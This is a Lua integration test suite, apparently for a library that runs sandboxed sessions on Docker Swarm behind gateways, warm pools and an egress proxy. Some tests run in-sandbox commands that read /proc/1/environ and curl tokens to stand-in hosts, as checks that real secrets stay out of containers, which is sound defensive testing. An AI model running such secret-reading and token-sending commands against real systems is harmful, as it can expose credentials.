      assert.equal(401, (front("GET", "/sessions/" .. key .. "/echo/hi", { timeout = 30 })))
      local st, doc = front("GET", "/sessions/" .. key, { token = TOKEN, secret = g.secret })
      assert.equal(200, st)
      assert.equal(cluster.nodes[g.node].name, doc.node)
    end
    diag(("a proxied request through front and gateways: mean %.0f ms when each gateway asks the manager, %.0f ms"
      .. " cached (%d each)"):format(1000 * t_talk[1] / n_talk, 1000 * t_talk[2] / n_talk, n_talk))
    -- each request reached the node that holds the session: only its own gateway went to a
    -- loopback port; the others sent it on to that gateway
    local forwarded = 0
    for key, g in pairs(gws) do
      for i = 1, 3 do
        local log = GW.access_log(gw.nodes[i])
        for up in log:gmatch('"GET /sessions/' .. key:gsub("%-", "%%-") .. '/echo/hi" 200 %d+ upstream=(%S+)') do
          if i == g.node then
            assert.truthy(up:match("^127%.0%.0%.1:%d+$"), up)
          else
            assert.equal(gw.nodes[g.node].addr, up)
            forwarded = forwarded + 1
          end
        end
      end
    end
    assert.truthy(forwarded >= 3, "requests forwarded between gateways: " .. forwarded)
    -- server-sent events through front and two gateways, each event as it is sent
    local key = next(gws)
    local lines = GW.sse(gw.front.url .. "/sessions/" .. key .. "/sse?n=3", gws[key].secret, W.workdir())
    local data = {}
    for _, l in ipairs(lines) do if l.line:match("^data: ") then data[#data + 1] = l end end
    assert.equal(3, #data, core.json_encode(lines))
    assert.truthy(data[3].t - data[1].t >= 1.5, "the events came together: buffered on the way")
    -- delete through the front, a session of a node that stays: gone everywhere
    local del
    for k, g in pairs(gws) do if g.node ~= 2 and (not del or k < del) then del = k end end
    local project = sessions[del].record.project
    local st, _, body, secs = front("DELETE", "/sessions/" .. del, { token = TOKEN, secret = gws[del].secret, timeout = 120 })
    assert.equal(200, st, body)
    diag(("a DELETE through the front: %.1f s"):format(secs))
    assert.truthy(GW.access_log(gw.nodes[gws[del].node]):find('"DELETE /sessions/' .. del .. '" 200', 1, true))
    for _ = 1, 3 do assert.equal(404, (talk(del, "/echo/hi"))) end
    assert.same({}, on_nodes(project))
    gws[del], sessions[del] = nil, nil
    -- the tenant cap holds across gateways: counted on the manager, not in one gateway's dict
    local st1, doc1, b1 = front("POST", "/sessions/" .. KEYP .. "b1", { token = TOKEN_BOB, timeout = 300 })
    assert.equal(201, st1, b1)
    for _ = 1, 3 do -- the round robin: each gateway in turn
      local st2, doc2, b2 = front("POST", "/sessions/" .. KEYP .. "b2", { token = TOKEN_BOB, timeout = 300 })
      assert.equal(429, st2, b2)
      assert.equal("limit", doc2.error.kind)
    end
    assert.equal(200, (front("DELETE", "/sessions/" .. KEYP .. "b1", { token = TOKEN_BOB, secret = doc1.secret, timeout = 120 })))
  end)

  it("hibernates and wakes a gateway session twice through the front, and PATCH sets its ttl", function()
    local key -- a session of node 1 (the manager: never drained nor lost below), else of node 3
    for k, g in pairs(gws) do if g.node == 1 or (not key and g.node ~= 2) then key = k end end
    assert.truthy(key, "no gateway session outside node 2")
    local g = gws[key]
    local function call(verb, method, data)
      return front(method or "POST", "/sessions/" .. key .. (verb and ("/" .. verb) or ""),
        { token = TOKEN, secret = g.secret, timeout = 180, data = data })
    end
    for cycle = 1, 2 do
      local t0 = core.engine_clock()
      local st, doc, body = call("hibernate")
      assert.equal(200, st, body)
      assert.equal("hibernated", doc.state)
      local slept = core.engine_clock() - t0
      local st503, _, b503 = talk(key, "/echo/hi")
      assert.equal(503, st503, b503)
      st, doc = front("GET", "/sessions/" .. key, { token = TOKEN, secret = g.secret })
      assert.same({ 200, "hibernated" }, { st, doc.state })
      assert.equal(409, (call("hibernate")))
      t0 = core.engine_clock()
      st, doc, body = call("wake")
      assert.equal(200, st, body)
      assert.equal("ready", doc.state)
      diag(("through the front: hibernate %.1f s, wake %.1f s (cycle %d)"):format(slept, core.engine_clock() - t0, cycle))
      for _ = 1, 3 do -- each gateway in turn: a port cached before the wake is read again
        st, _, body = talk(key, "/echo/hi")
        assert.equal(200, st, body)
      end
    end
    assert.equal(409, (call("wake")))
    local st, doc, body = call(nil, "PATCH", '{"ttl": 600}')
    assert.equal(200, st, body)
    assert.truthy(doc.expires.remaining > 500, body)
    assert.equal(400, (call(nil, "PATCH", '{"ttl": -1}')))
    st, doc, body = call("snapshot")
    assert.equal(501, st, body)
    assert.equal("unsupported", doc.error.kind)
  end)

  it("gives a drained node no new session, and its sessions a typed answer", function()
    local drained = 3
    set_availability(drained, "drain")
    local keys = { KEYP .. "d1", KEYP .. "d2" }
    start(jobs(keys, light), 2)
    for _, k in ipairs(keys) do assert.are_not.equal(drained, sessions[k].node, k) end
    -- its sessions' tasks were stopped, not moved (restart condition none): the session is over
    local ended = 0
    for _, s in pairs(sessions) do
      if s.node == drained then
        local stack, err
        for _ = 1, 150 do
          stack, err = swarm.reconnect(s.record)
          if not stack then break end
          stack:close()
          core.sleep(0.2)
        end
        assert.is_nil(stack)
        assert.equal("session_ended", err.reason, tostring(err))
        s.ended = true
        ended = ended + 1
      end
    end
    assert.truthy(ended >= 2)
  end)

  it("answers node_down for a lost worker's sessions, and places new sessions on the node left", function()
    -- node 3 is still drained: with node 2 lost, node 1 is the only place left
    local lost = 2
    local t0 = core.engine_clock()
    W.stop_node(lost)
    cluster.nodes[lost].stopped = true
    local state
    for _ = 1, 300 do
      state = assert(mgr:call("GET", "/nodes/" .. cluster.nodes[lost].name)).Status.State
      if state ~= "ready" then break end
      core.sleep(0.2)
    end
    assert.equal("down", state)
    diag(("a stopped worker's dockerd: the manager reports it down after %.1f s"):format(core.engine_clock() - t0))
    local answered = 0
    for _, s in pairs(sessions) do
      if s.node == lost and not s.ended then
        local stack, err = swarm.reconnect(s.record)
        assert.is_nil(stack)
        assert.equal("engine", err.kind)
        assert.equal("node_down", err.reason, tostring(err))
        assert.equal(cluster.nodes[lost].name, err.node)
        -- a handle held from before says the same
        if s.stack then
          local st = assert(s.stack:status())
          assert.equal("down", st.node_state)
        end
        answered = answered + 1
      end
    end
    assert.truthy(answered >= 2)
    local keys = { KEYP .. "l1", KEYP .. "l2" }
    start(jobs(keys, light), 2)
    for _, k in ipairs(keys) do assert.equal(1, sessions[k].node, k) end
    set_availability(3, "active")
  end)

  it("through the gateways: the lost node's sessions answer 502 node_down, the drained node's 410, new ones land on the rest", function()
    local down, ended = 0, 0
    for key, g in pairs(gws) do
      local s = sessions[key]
      if g.node == 2 then
        for _ = 1, 2 do
          local t0 = core.engine_clock()
          local st, doc, body = talk(key, "/echo/hi")
          assert.equal(502, st, body)
          assert.equal("node_down", doc.error.kind, body)
          assert.equal(cluster.nodes[2].name, doc.error.node)
          diag(("a lost node's session through the front: 502 node_down in %.2f s"):format(core.engine_clock() - t0))
        end
        down = down + 1
      elseif s.ended then
        local st, doc, body = talk(key, "/echo/hi")
        assert.equal(410, st, body)
        assert.equal("session_ended", doc.error.kind, body)
        ended = ended + 1
      else
        assert.equal(200, (talk(key, "/echo/hi")))
      end
    end
    assert.truthy(down >= 1)
    for i = 1, 2 do
      local g = gw_create(KEYP .. "gl" .. i)
      assert.are_not.equal(2, g.node)
      assert.equal(200, (talk(KEYP .. "gl" .. i, "/echo/hi")))
    end
    diag(("through the gateways after the loss: %d sessions node_down, %d session_ended, 2 new on the nodes left"):format(
      down, ended))
  end)

  it("reaps every session from the manager, and nothing is left on any node, the lost one once it is back", function()
    for _, s in pairs(sessions) do if s.stack then s.stack:close(); s.stack = nil end end
    local t0 = core.engine_clock()
    local removed, deferred = swarm.reap { docker_host = cluster.manager, prefix = PROJECT_PREFIX }
    assert.truthy(removed, tostring(deferred))
    local n = 0
    for _ in pairs(sessions) do n = n + 1 end
    assert.equal(n, #removed)
    -- what the manager keeps for the lost node's tasks: only overlays of sessions that were there
    local on_lost = {}
    for _, s in pairs(sessions) do if s.node == 2 then on_lost[s.record.project .. "-sbx"] = true end end
    for _, d in ipairs(deferred) do assert.truthy(on_lost[d], d .. " is deferred but was not on the lost node") end
    diag(("reap of %d sessions (one node lost) in %.1f s, %d overlays deferred until the node returns"):format(n,
      core.engine_clock() - t0, #deferred))
    local function mine(list, field)
      local out = {}
      for _, x in ipairs(list) do
        local p = (x.Spec and x.Spec.Labels or x.Labels or {})["io.sandstack.project"]
        if p and p:sub(1, #PROJECT_PREFIX) == PROJECT_PREFIX then out[#out + 1] = x[field] or p end
      end
      return out
    end
    local f = { query = { filters = { label = { "io.sandstack.project" } } } }
    assert.same({}, mine(assert(mgr:call("GET", "/services", nil, f)), "ID"))
    -- a removed overlay leaves the manager's own list once its engine, as a node, lets go of it
    local left
    for _ = 1, 50 do
      left = mine(assert(mgr:call("GET", "/networks", nil, f)), "Name")
      if #left <= #deferred then break end
      core.sleep(0.2)
    end
    table.sort(left)
    table.sort(deferred)
    assert.same(deferred, left)
    for i = 1, 3 do
      if i ~= 2 then assert.same({}, W.node_projects(i).any) end
    end
    -- the lost node comes back with what it held; the next reap's sweep removes it
    W.start_node(2)
    cluster.nodes[2].stopped = nil
    local back = W.node_projects(2).any
    assert.truthy(next(back), "the returning node holds nothing of its sessions: the sweep would prove nothing")
    t0 = core.engine_clock()
    removed, deferred = swarm.reap { docker_host = cluster.manager, prefix = PROJECT_PREFIX }
    assert.truthy(removed, tostring(deferred))
    assert.truthy(#removed >= 1)
    assert.same({}, deferred)
    for i = 1, 3 do assert.same({}, W.node_projects(i).any, "node " .. i) end
    for _ = 1, 50 do
      left = mine(assert(mgr:call("GET", "/networks", nil, f)), "Name")
      if #left == 0 then break end
      core.sleep(0.2)
    end
    assert.same({}, left)
    diag(("the returning node's leftovers (%d sessions) swept in %.1f s"):format(#removed, core.engine_clock() - t0))
  end)

  it("answers 404 through the gateways for a reaped session, and the gateways stop", function()
    for key in pairs(gws) do
      local st, doc, body = talk(key, "/echo/hi")
      assert.equal(404, st, body)
      assert.equal("not_found", doc.error.kind)
    end
    GW.stop()
    assert.same({}, GW.leftovers())
  end)

  -- A warm pool on the swarm, claimed on a worker node: the pool's stacks wait on worker 3 with
  -- throwaway credentials; two processes acquire at once and get one stack each; the claimed
  -- session answers and holds the session's credentials, model key and egress, handed over
  -- through the node's engine (the outside: a TLS stand-in in worker 3's own namespace, as in
  -- "credentials on a worker node"); close and destroy remove only what the pool made.
  describe("a warm pool on a worker node", function()
    local CLIENT = "sandstack-test/client:local"
    local GH = "ghp_" .. core.random_hex(18)
    local KEY = "sk-swp-" .. core.random_hex(16)
    local OUTSIDE = "203.0.113.78"
    local NODE = 3
    local POOL = "swp" .. core.random_hex(2):lower()
    local work, pool, opts
    local claimed = {} -- records of the acquired sessions
    local other -- a session of no pool, on the same node: nothing of the pool's calls may touch it

    local function arrived(path)
      for line in (h.read_file(work .. "/requests.jsonl") or ""):gmatch("[^\n]+") do
        local r = assert(core.json_decode(line))
        if r.path == path then return r end
      end
    end

    -- an acquire in a child process (the pool's options from a file): prints the record and the steps' times
    local CHILD = [[
local core = require("sandstack").core
local o = core.json_decode(io.open(arg[1]):read("a"))
local pool = assert(require("sandstack").swarm.pool { name = o.name, size = 2, stack = o.stack })
while io.open(arg[3]) == nil do core.sleep(0.01) end -- the start line: both children go at once
local s, err = pool:acquire(arg[2], o.acquire)
if not s then io.write(core.json_encode({ err = err.message }), "\n") os.exit(1) end
io.write(core.json_encode({ record = s:record(), t = pool.last_acquire }), "\n")
s:close()
]]

    it("fills a pool on a worker; two processes acquiring at once get one stack each, one winner per claim", function()
      local n = cluster.nodes[NODE]
      work = W.workdir() .. "/pool"
      h.must("mkdir -p " .. h.q(work))
      require("proxy_harness").make_certs(work, "sstest-swp-ca", "gh.test", { "gh.test", "model.test" })
      W.in_node(NODE, "ip addr add " .. OUTSIDE .. "/32 dev lo")
      local pid = tonumber(W.in_node(NODE, ("python3 %s %s %s %s </dev/null >%s 2>&1 & echo $!"):format(
        h.q(W.root .. "/spec/support/tls_echo.py"), h.q(work .. "/srv.pem"), h.q(work .. "/srv.key"), h.q(work),
        h.q(work .. "/echo.log"))):match("%d+"))
      W.track(pid)
      h.must(("docker save %s | DOCKER_HOST=%s docker load -q"):format(CLIENT, h.q(n.host)))
      local t0
      opts = {
        docker_host = cluster.manager, agent_port = 8080, cpus = 0.1, memory = "64m", ready_timeout = 90,
        constraints = { "node.hostname==" .. n.name },
        services = { { name = "sandbox", image = CLIENT, command = "exec agent" } },
        api_key = "sk-operator-" .. core.random_hex(16), egress_policy = { allow = { "model.test" } },
        proxy_hosts = { ["gh.test"] = OUTSIDE, ["model.test"] = OUTSIDE }, proxy_upstream = "https://model.test",
        proxy_upstream_ca = h.read_file(work .. "/ca.pem"),
        credentials = { { name = "GH_TOKEN", host = "gh.test", header = "Authorization", format = "Bearer %s",
          length = #GH } },
      }
      -- a session of no pool on the same node, whose sidecar has a health check: Swarm gives the
      -- sidecar its name once it saw it healthy (one interval after its start), and the start
      -- waits for that, so the sandbox resolves it right after start() returns
      local o = {}
      for k, v in pairs(full) do o[k] = v end
      o.constraints = { "node.hostname==" .. n.name }
      o.ready = { out = { test = { "agent", "connect", "127.0.0.1", "8080", "500" }, interval = 20 } }
      t0 = core.engine_clock()
      other = assert(swarm.start(KEYP .. "nopool", o))
      local named = assert(other:exec("nslookup out >/dev/null 2>&1 && echo named", { timeout = 30 }))
      assert.equal("named\n", named.stdout, "the sandbox does not resolve its sidecar right after the start")
      diag(("a start whose sidecar has a 20 s health check: %.1f s"):format(core.engine_clock() - t0))
      pool = assert(swarm.pool { name = POOL, size = 2, stack = opts })
      t0 = core.engine_clock()
      assert.equal(2, pool:fill())
      diag(("a swarm pool of 2 filled on worker %d in %.1f s"):format(NODE, core.engine_clock() - t0))
      assert.same({ ready = 2, starting = 0, in_use = 0, failed = 0 }, pool:status())
      for _, s in ipairs(assert(swarm.list { docker_host = cluster.manager })) do
        if s.project:sub(1, #POOL) == POOL then assert.equal(n.name, s.node) end
      end
      -- both children claim at once, from the same list: one create per stack wins
      local of = work .. "/pool.json"
      h.write_file(of, core.json_encode({ name = POOL, stack = (function()
        local o = {}
        for k, v in pairs(opts) do o[k] = v end
        return o
      end)(), acquire = { credentials = { { name = "GH_TOKEN", secret = GH } }, api_key = KEY,
        egress_policy = { allow = { "gh.test", "model.test" } } } }))
      h.write_file(work .. "/child.lua", CHILD)
      local go = work .. "/go"
      local pids = {}
      for i = 1, 2 do
        pids[i] = tonumber(h.must(("cd %s && LUA_PATH=%s LUA_CPATH=%s lua5.4 %s %s %s %s > %s 2>&1 & echo $!"):format(
          h.q(W.root), h.q(W.lua_path), h.q(W.lua_cpath), h.q(work .. "/child.lua"), h.q(of), KEYP .. "pooled" .. i,
          h.q(go), h.q(work .. "/acq" .. i .. ".out"))):match("%d+"))
        W.track(pids[i])
      end
      h.write_file(go, "go")
      for _, p in ipairs(pids) do
        while h.running(p) do core.sleep(0.1) end
      end
      local projects = {}
      for i = 1, 2 do
        local out = h.read_file(work .. "/acq" .. i .. ".out") or ""
        local r = core.json_decode(out:match("{[^\n]*}") or "null")
        assert.truthy(r and r.record, out)
        claimed[i] = r.record
        projects[r.record.project] = true
        assert.equal(KEYP .. "pooled" .. i, r.record.session_key)
        assert.equal(n.name, r.record.node)
        diag(("swarm pool acquire %d: %.1f ms (list %.1f, claim %.1f, node %.1f, hand-over %.1f; %d tries)"):format(i,
          1000 * r.t.total, 1000 * r.t.list, 1000 * r.t.claim, 1000 * r.t.node, 1000 * (r.t.egress or 0), r.t.tries))
      end
      assert.is_true(projects[claimed[1].project] and projects[claimed[2].project] and claimed[1].project ~= claimed[2].project)
      assert.same({ ready = 0, starting = 0, in_use = 2, failed = 0 }, pool:status())
      -- the list names each pooled session by its claim
      local keys = {}
      for _, s in ipairs(assert(swarm.list { docker_host = cluster.manager })) do keys[s.project] = s.session_key end
      assert.equal(KEYP .. "pooled1", keys[claimed[1].project])
      -- one winner per claim: two creates of one claim sent at once, the manager lets one through;
      -- a claimed stack's claim, none
      local marks = require "sandstack.swarm.pool_marks"
      local function race(project)
        local reqs = {}
        for i = 1, 2 do
          reqs[i] = core.session_requests("create_service", nil, { body = marks.body(project, POOL, "claim", CLIENT,
            { ["io.sandstack.session"] = "x" .. i }) })[1]
        end
        local won = 0
        for _, r in ipairs(mgr:perform(reqs)) do if r.ok then won = won + 1 else assert.equal(409, r.status) end end
        return won
      end
      assert.equal(1, race(POOL .. "-race"))
      assert(mgr:perform(core.session_requests("remove_service", { POOL .. "-race-claim" }))[1].ok)
      assert.equal(0, race(claimed[1].project))
    end)

    it("the claimed session answers on its node and holds the session's credentials, not the pool's", function()
      assert(claimed[1], "no claimed session")
      local stack = assert(swarm.reconnect(claimed[1]))
      local r = assert(stack:exec("echo hel''lo"))
      assert.equal("hello\n", r.stdout)
      local ph = stack:credentials().GH_TOKEN
      assert.equal(#GH, #ph)
      local env = assert(stack:exec("env")).stdout
      assert.truthy(env:find("GH_TOKEN=" .. ph .. "\n", 1, true), env)
      r = assert(stack:exec("curl -sS -m 20 -o /tmp/body -w '%{http_code}' -H 'Authorization: Bearer '\"$GH_TOKEN\" "
        .. "https://gh.test/pooled 2>&1; echo; curl -sS -m 20 -o /dev/null -w '%{http_code}' -H \"x-api-key: "
        .. "$ANTHROPIC_API_KEY\" -d '{}' \"$ANTHROPIC_BASE_URL/v1/messages?pool=1\" 2>&1", { timeout = 60 }))
      assert.truthy(r.stdout:match("^200\n200"), r.stdout)
      assert.same({ "Bearer " .. GH }, assert(arrived("/pooled"), "nothing reached gh.test").headers.authorization)
      assert.same({ KEY }, assert(arrived("/v1/messages?pool=1")).headers["x-api-key"])
      local spec = core.json_encode(assert(mgr:call("GET", "/services/" .. stack.project .. "-sandbox")))
      for _, s in ipairs { GH, KEY } do
        assert.is_nil(env:find(s, 1, true))
        assert.is_nil(spec:find(s, 1, true))
      end
      stack:close()
    end)

    it("close removes the pool's idle stacks only; destroy removes a claimed one; a session of no pool stays", function()
      assert(pool, "no pool")
      pool = assert(swarm.pool { name = POOL, size = 1, max = 4, stack = opts }) -- the same pool, from its name
      assert.equal(1, pool:fill()) -- one idle again
      local ok, removed = pool:close()
      assert.is_true(ok)
      assert.equal(1, #removed)
      for _, rec in ipairs(claimed) do
        local s = assert(swarm.reconnect(rec)) -- held by their sessions: still there
        assert(s:destroy())
        s:close()
      end
      local left = {}
      for _, s in ipairs(assert(swarm.list { docker_host = cluster.manager })) do
        if s.project:sub(1, #POOL) == POOL then left[#left + 1] = s.project end
      end
      assert.same({}, left)
      assert.same({}, assert(mgr:call("GET", "/services", nil,
        { query = { filters = { label = { "io.sandstack.pool=" .. POOL } } } })))
      assert.truthy(W.node_projects(NODE).any[other.project], "the session of no pool was touched")
      assert(other:destroy())
      other:close()
      other = nil
      pool = nil
    end)

    teardown(function()
      if pool then pool:close() end
      for _, rec in ipairs(claimed) do
        local s = swarm.reconnect(rec)
        if s then s:destroy(); s:close() end
      end
      if other then other:destroy(); other:close() end
    end)
  end)

  -- Hibernate, wake and expiry on the swarm: the services scaled to 0 and back, pinned to the
  -- session's node; the proxy (the live policy and credentials) kept running; the expiry on the
  -- sandbox service's labels, acted on by reap{expired = true} from this process.
  describe("hibernate, wake and expiry", function()
    local stack, key
    local GH = "ghp_" .. core.random_hex(18)
    local function answer(st)
      return (W.in_node(node_index(st.node), ("curl -s -m 10 http://127.0.0.1:%d/echo/%s"):format(st.port, key)))
    end
    local function sandbox_task(st)
      local f = { query = { filters = { service = { st.project .. "-sandbox" }, ["desired-state"] = { "running" } } } }
      local running = {}
      for _, t in ipairs(assert(mgr:call("GET", "/tasks", nil, f))) do
        if t.Status.State == "running" then running[#running + 1] = t end
      end
      return running
    end

    it("hibernates and wakes one session twice: its volume's files kept, the agent answering, the live policy and placeholders kept", function()
      key = KEYP .. "hib"
      local err
      stack, err = swarm.start(key, {
        docker_host = cluster.manager, agent_port = 8080, cpus = 0.1, memory = "64m", ready_timeout = 90,
        volumes = { { name = "workspace" } },
        services = { { name = "sandbox", image = AGENT, command = { "agent" },
          volumes = { { name = "workspace", target = "/workspace" } } } },
        egress_policy = { allow = { "a.test" } },
        credentials = { { name = "GH_TOKEN", host = "a.test", header = "Authorization", format = "Bearer %s", secret = GH } },
      })
      assert(stack, tostring(err))
      assert(stack:set_egress { allow = { "a.test", "b.test" } }) -- live only: the proxy holds it
      local _, digest = assert(stack:egress())
      local ph = stack:credentials().GH_TOKEN
      local record, node = stack:record(), stack.node
      for cycle = 1, 2 do
        assert.is_true(stack:write("/workspace/cycle-" .. cycle, "before hibernate " .. cycle))
        assert.is_true(stack:write("/tmp/layer-" .. cycle, "in the container's layer"))
        local t0 = core.engine_clock()
        assert.is_true(assert(stack:hibernate()))
        local slept = core.engine_clock() - t0
        assert.same({}, sandbox_task(stack)) -- no sandbox task runs: its memory is freed
        local st = assert(stack:status())
        -- the proxy's task is not scaled down (its live state: the egress digest after the wake)
        assert.truthy(st.services.proxy.state == "running" or st.services.proxy.state == "starting", st.services.proxy.state)
        assert.is_nil(stack.port)
        assert.is_true(assert(stack:hibernate())) -- a hibernated session is left as it is
        t0 = core.engine_clock()
        if cycle == 1 then
          assert.is_true(assert(stack:wake()))
        else -- by its record, in a handle of its own
          stack:close()
          stack, err = swarm.wake(record)
          assert(stack, tostring(err))
        end
        local woke = core.engine_clock() - t0
        assert.equal(node, stack.node)
        assert.equal(1, #sandbox_task(stack))
        assert.truthy(answer(stack):find(key, 1, true), "no answer after wake " .. cycle)
        for c = 1, cycle do assert.equal("before hibernate " .. c, stack:read("/workspace/cycle-" .. c)) end
        assert.is_nil(stack:read("/tmp/layer-" .. cycle)) -- the task is a new container
        local p, d2 = assert(stack:egress())
        assert.equal(digest, d2)
        assert.truthy(p:render():find("b.test", 1, true))
        assert.equal(ph, stack:credentials().GH_TOKEN)
        local env = assert(stack:exec("tr '\\0' '\\n' < /proc/1/environ")).stdout -- the new task's
        assert.truthy(env:find("GH_TOKEN=" .. ph .. "\n", 1, true), env)
        diag(("hibernate %.1f s, wake %.1f s (cycle %d, on %s)"):format(slept, woke, cycle, node))
      end
      local _, merr = stack:hibernate { memory = true }
      assert.same({ "engine", "checkpoint_unsupported" }, { merr.kind, merr.reason })
      for _, m in ipairs { "snapshot", "fork", "changes" } do
        local ok, uerr = stack[m](stack)
        assert.is_nil(ok)
        assert.same({ "unsupported", "swarm", m }, { uerr.kind, uerr.backend, uerr.method })
      end
    end)

    it("expires a session at its ttl by reap{expired = true}, and spares one whose ttl set_timeout extended", function()
      assert(stack, "no session")
      local opts = {}
      for k, v in pairs(light) do opts[k] = v end
      opts.ttl = 2
      local short = assert(swarm.start(KEYP .. "ttl", opts))
      local due = assert(short:expires())
      assert.truthy(due.at and due.remaining <= 2, core.json_encode(due))
      -- the long-lived one: a ttl as short, then extended before it passes (a label update: the
      -- task is not restarted)
      local task = sandbox_task(stack)[1].ID
      assert(stack:set_timeout(2))
      assert(stack:set_timeout(600))
      assert.equal(task, sandbox_task(stack)[1].ID)
      assert.truthy(assert(stack:expires()).remaining > 500)
      local sv = assert(mgr:call("GET", "/services/" .. stack.project .. "-sandbox"))
      assert.truthy(tonumber(sv.Spec.Labels["io.sandstack.expires"]))
      while os.time() < due.at do core.sleep(0.2) end
      local project = short.project
      short:close()
      local done = assert(swarm.reap { docker_host = cluster.manager, prefix = PROJECT_PREFIX, expired = true })
      assert.same({ { project = project, reason = "ttl", action = "destroy" } }, done)
      for i = 1, 3 do assert.is_nil(W.node_projects(i).any[project], "node " .. i) end
      assert.truthy(answer(stack):find(key, 1, true), "the extended session no longer answers")
      assert.same({}, assert(swarm.reap { docker_host = cluster.manager, prefix = PROJECT_PREFIX, expired = true }))
    end)

    it("destroys the hibernated session's stack, leaving nothing on its node", function()
      assert(stack, "no session")
      assert(stack:hibernate())
      local project = stack.project
      assert(stack:destroy())
      stack:close()
      stack = nil
      for i = 1, 3 do assert.is_nil(W.node_projects(i).any[project], "node " .. i) end
    end)

    teardown(function()
      if stack then stack:destroy(); stack:close() end
    end)
  end)

  -- Expiry with no process of the user's alive: the gateways' own timer acts on a session's ttl
  -- (no reap from this process); and a swarm pool's server answers the asks of its claimed
  -- session, through the node's engine, from the sandbox's own request to its answer.
  describe("the gateways' expiry timer and a pool's asks on a swarm", function()
    local CLIENT = "sandstack-test/client:local" -- on node 3 (the pool's describe loaded it)
    local NODE = 3
    local pool, s

    it("expires a gateway session by the gateways' timer, and the gateways answer 404 for it", function()
      local token = core.random_hex(16)
      local prefix = PROJECT_PREFIX .. "gx-"
      local g = GW.start(W, mgr, { project_prefix = prefix, expiry_interval = 1,
        tenants = { { name = "alice", token_sha256 = core.sha256_hex(token), max_sessions = 2 } },
        stack = { docker_host = cluster.manager, agent_port = 8080, cpus = 0.1, memory = "64m", ready_timeout = 90,
          timeout = 90, services = { { name = "sandbox", image = AGENT, command = { "agent" } } } } })
      local key = KEYP .. "ttl"
      local function at(method, path, o) return GW.curl(g.front.url .. path, method, o) end
      local st, doc, body = at("POST", "/sessions/" .. key, { token = token, timeout = 300 })
      assert.equal(201, st, body)
      local secret = doc.secret
      local project
      for _, x in ipairs(assert(mgr:call("GET", "/services", nil,
        { query = { filters = { label = { "io.sandstack.gateway.session=" .. key } } } }))) do
        if x.Spec.Labels["io.sandstack.project"]:sub(1, #prefix) == prefix then project = x.Spec.Labels["io.sandstack.project"] end
      end
      assert.truthy(project, "the manager has no gateway labels for " .. key)
      for _ = 1, 3 do -- each gateway in turn: each caches the session's entry
        st, _, body = at("GET", "/sessions/" .. key .. "/echo/hi", { secret = secret, timeout = 60 })
        assert.equal(200, st, body)
      end
      local t0 = core.engine_clock()
      local _ -- the answer this test does not read
      st, _, body = at("PATCH", "/sessions/" .. key, { token = token, secret = secret, data = '{"ttl": 2}', timeout = 60 })
      assert.equal(200, st, body)
      local gone
      for _ = 1, 300 do
        st = at("GET", "/sessions/" .. key, { token = token, secret = secret, timeout = 30 })
        if st == 404 then gone = core.engine_clock() - t0; break end
        core.sleep(0.2)
      end
      assert.truthy(gone, "the session was not expired by the gateways' timer (last answer " .. tostring(st) .. ")")
      diag(("a gateway session's ttl of 2 s acted on by the gateways' timer (interval 1 s) %.1f s after the PATCH"):format(gone))
      for _ = 1, 3 do -- every gateway: 404, the cached entries dropped or looked up again
        local st2, doc2, b2 = at("GET", "/sessions/" .. key .. "/echo/hi", { secret = secret, timeout = 60 })
        assert.equal(404, st2, b2)
        assert.equal("not_found", doc2.error.kind)
      end
      -- counted by the gateway that acted, once its pass ended (the services go first, so the
      -- 404 above may come before the node objects and overlays are removed)
      local destroyed = 0
      for _ = 1, 300 do
        destroyed = 0
        for i = 1, 3 do
          destroyed = destroyed + tonumber(W.in_node(i, "curl -s -m 5 http://127.0.0.1:9145/metrics")
            :match('sandstack_gateway_destroyed_total{reason="ttl"} (%d+)') or 0)
        end
        if destroyed > 0 then break end
        core.sleep(0.2)
      end
      assert.equal(1, destroyed, "the gateways' count of sessions destroyed by their ttl")
      assert.same({}, assert(mgr:call("GET", "/services", nil, { query = { filters = { label = { "io.sandstack.project=" .. project } } } })))
      for i = 1, 3 do assert.is_nil(W.node_projects(i).any[project], "node " .. i) end
      GW.stop()
      assert.same({}, GW.leftovers())
    end)

    it("answers an ask of a claimed session by pool:serve{on_ask}, through the node's engine", function()
      local n = cluster.nodes[NODE]
      pool = assert(swarm.pool { name = "swa" .. core.random_hex(2):lower(), size = 1, stack = {
        docker_host = cluster.manager, agent_port = 8080, cpus = 0.1, memory = "64m", ready_timeout = 90,
        constraints = { "node.hostname==" .. n.name },
        services = { { name = "sandbox", image = CLIENT, command = "exec agent" } },
        egress_policy = { allow = {}, ask = true, ask_timeout = 30 } } })
      assert.equal(1, assert(pool:fill()))
      s = assert(pool:acquire(KEYP .. "asked"))
      assert(s:exec("setsid sh -c 'curl -sS -i -m 40 http://asked.test/x >/tmp/asked 2>&1' </dev/null >/dev/null 2>&1 &",
        { timeout = 30 }))
      local seen = {}
      local server = assert(pool:serve { target_idle = 0, interval = 0.5, on_ask = function(a)
        seen[#seen + 1] = a
        return "deny", { reason = "the pool says no" }
      end })
      local answered, ticks, spent = 0, 0, 0
      for _ = 1, 60 do
        local t0 = core.engine_clock()
        local st = assert(server:tick())
        spent, ticks = spent + core.engine_clock() - t0, ticks + 1
        answered = answered + st.answered
        if answered > 0 then break end
        core.sleep(0.5)
      end
      assert.equal(1, answered)
      assert.same({ s.project, "asked.test" }, { seen[1].project, seen[1].host })
      diag(("a swarm pool's server tick with one claimed session and its asks: %.2f s mean over %d ticks"):format(
        spent / ticks, ticks))
      local text = ""
      for _ = 1, 100 do
        text = assert(s:exec("cat /tmp/asked 2>/dev/null", { timeout = 30 })).stdout
        if text:find("the pool says no", 1, true) then break end
        core.sleep(0.1)
      end
      assert.matches("ask_denied", text, 1, true)
      assert.matches("the pool says no", text, 1, true)
      local project = s.project
      assert(s:destroy())
      s:close()
      s = nil
      assert(pool:close())
      pool = nil
      assert.is_nil(W.node_projects(NODE).any[project])
    end)

    teardown(function()
      GW.stop()
      if s then s:destroy(); s:close() end
      if pool then pool:close() end
    end)
  end)

  it("leaves nothing on the host", function()
    local t0 = core.engine_clock()
    mgr:close()
    mgr = nil
    W.cleanup()
    assert.same({}, W.leftovers())
    diag(("cluster down in %.1f s"):format(core.engine_clock() - t0))
  end)
end)
